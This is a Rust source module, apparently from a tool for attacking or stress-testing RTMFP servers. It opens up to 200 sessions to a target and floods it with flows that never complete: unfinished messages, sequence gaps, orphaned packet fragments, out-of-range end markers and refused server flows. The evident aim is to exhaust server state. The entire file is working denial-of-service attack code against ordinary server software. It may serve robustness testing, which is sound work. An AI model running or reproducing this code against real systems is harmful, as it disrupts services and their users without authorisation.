//! Flows that are never complete: messages without an end, gaps, packets of which pieces are missing, ends
//! without a beginning, and flows of the server that are refused.

use super::line::Line;
use super::packets::{data, flags, metadata};
use super::puppet::{CONTROL, Puppets};
use super::{Attack, Setting};
use rtmfp::proto::crypto::Negotiation;
use rtmfp::proto::flash::FlowMetadata;
use rtmfp::wire::Chunk;
use rtmfp::wire::chunk::{FragmentControl, PacketFragment, UserData, UserDataFlags};

const SESSIONS: usize = 200;
/// Flows of a session that are used at a time.
const FLOWS: u64 = 60;
/// Bytes of a fragment.
const FRAGMENT: usize = 1000;

pub(super) struct Flows {
    puppets: Puppets,
    next: u64,
    filler: Vec<u8>,
}

impl Flows {
    pub(super) fn prepare(setting: &Setting, line: &mut Line) -> anyhow::Result<Self> {
        let (offer, count) = (Negotiation::default(), setting.sessions.unwrap_or(SESSIONS));
        let puppets = Puppets::connect(line, &setting.uri, (count, 1), &offer)?;
        Ok(Self { puppets, next: 0, filler: vec![0x14; FRAGMENT] })
    }
}

impl Attack for Flows {
    fn sessions(&self) -> usize {
        self.puppets.all.len()
    }

    fn burst(&mut self, line: &mut Line) -> anyhow::Result<()> {
        let count = self.puppets.all.len() as u64;
        let (index, round) = ((self.next % count) as usize, self.next / count);
        self.next += 1;
        let puppet = &mut self.puppets.all[index];
        let (flow, step) = (CONTROL + 1 + round % FLOWS, 1 + round / FLOWS);
        let options = match flow % 4 {
            0 => metadata(FlowMetadata::GroupServer, None),
            _ => metadata(FlowMetadata::tc(0), puppet.back),
        };
        let options = Some(&options[..]);
        let filler = &self.filler[..];
        let packet = match round % 8 {
            // A message that has begun and never ends.
            0 | 1 => {
                let position =
                    if step == 1 { FragmentControl::Begin } else { FragmentControl::Middle };
                let flags = flags(position);
                let data = UserData { flags, ..data((flow, step, step), options, filler) };
                puppet.packet(&[Chunk::UserData(data)])
            }
            // Every other fragment.
            2..=4 => {
                let sequence = 2 * step;
                puppet.packet(&[Chunk::UserData(data((flow, sequence, sequence), options, filler))])
            }
            // A piece of a packet whose other pieces do not come.
            5 => {
                let data = &filler[..FRAGMENT];
                let (packet_id, number) = (round, step % 3);
                let piece = PacketFragment { more: true, reserved: 0, packet_id, number, data };
                puppet.packet(&[Chunk::PacketFragment(piece)])
            }
            // An end far behind what has come.
            6 => {
                let flags = UserDataFlags { last: true, ..flags(FragmentControl::Whole) };
                let sequence = 1000 + step;
                let data = UserData { flags, ..data((flow, sequence, sequence), options, b"end") };
                puppet.packet(&[Chunk::UserData(data)])
            }
            // The server's own flows are refused, but that of the NetConnection, which would end all.
            _ => puppet.packet(&[
                Chunk::FlowException {
                    flow: puppet.back.unwrap_or(2) + 1 + step % 64,
                    exception: 0,
                },
                Chunk::BufferProbe(flow),
                Chunk::Ping(&filler[..64]),
            ]),
        };
        let at = puppet.at;
        line.send(at, &packet);
        if self.next.is_multiple_of(64) {
            self.puppets.serve(line)?;
        }
        Ok(())
    }
}
